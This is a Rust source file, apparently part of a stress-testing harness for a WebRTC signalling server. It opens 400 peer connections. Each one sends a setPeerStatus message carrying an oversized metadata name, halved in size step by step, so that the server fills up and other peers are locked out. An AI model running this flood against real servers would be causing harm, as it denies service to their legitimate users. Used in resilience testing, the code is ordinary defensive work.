//! Metas as long as they may be, of as many peers as it takes to leave no room for others.

use anyhow::Result;
use serde_json::json;

use crate::attack::client::Crowd;

const CLIENTS: usize = 400;
const LENGTH: usize = 240 * 1024;
/// As many have metas of one length, the next ones of half of it: what is left beside the longest is taken by shorter ones.
const OF_ONE_LENGTH: usize = 25;

pub(super) async fn attack(crowd: &Crowd) {
    crowd
        .all(crowd.at_least(CLIENTS), |client| occupy(crowd, client))
        .await;
}

async fn occupy(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.raw_peer(client, "/").await?;
    let halvings = (client / OF_ONE_LENGTH).min(15);
    let meta = json!({"name": "x".repeat(LENGTH >> halvings)});
    let status = json!({"type": "setPeerStatus", "roles": ["producer"], "meta": meta});
    peer.send_text(&status.to_string()).await?;
    crowd.count_sent(1);
    peer.read_on().await
}
